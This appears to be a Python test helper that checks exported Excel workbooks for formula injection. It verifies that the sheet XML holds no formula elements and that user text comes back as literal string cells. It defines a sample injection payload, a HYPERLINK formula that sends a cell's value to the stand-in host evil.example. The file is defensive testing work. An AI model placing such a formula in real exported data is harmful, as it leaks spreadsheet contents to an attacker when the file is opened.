"""Reading an exported workbook back the way an attacker's victim would open it: no formula anywhere in the sheet
XML, and user text back as the literal text in a string cell."""

from __future__ import annotations

import io
import re
import zipfile

from openpyxl import load_workbook

FORMULA_TITLE = '=HYPERLINK("http://evil.example/?q="&A2,"查看")'


def assert_no_formulas(content: bytes) -> None:
    """No worksheet in the .xlsx holds a formula element (``<f>`` or ``<f ...>``)."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [name for name in archive.namelist() if name.startswith("xl/worksheets/") and name.endswith(".xml")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert not re.search(r"<(\w+:)?f[\s>/]", xml), name


def text_cells(content: bytes, text: str) -> list:
    """Every cell of every sheet whose value is exactly ``text``; each must be a string cell."""
    assert_no_formulas(content)
    workbook = load_workbook(io.BytesIO(content))
    found = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row if cell.value == text]
    assert found, f"{text!r} is not in the workbook"
    for cell in found:
        assert cell.data_type == "s", (cell.coordinate, cell.data_type)
    return found
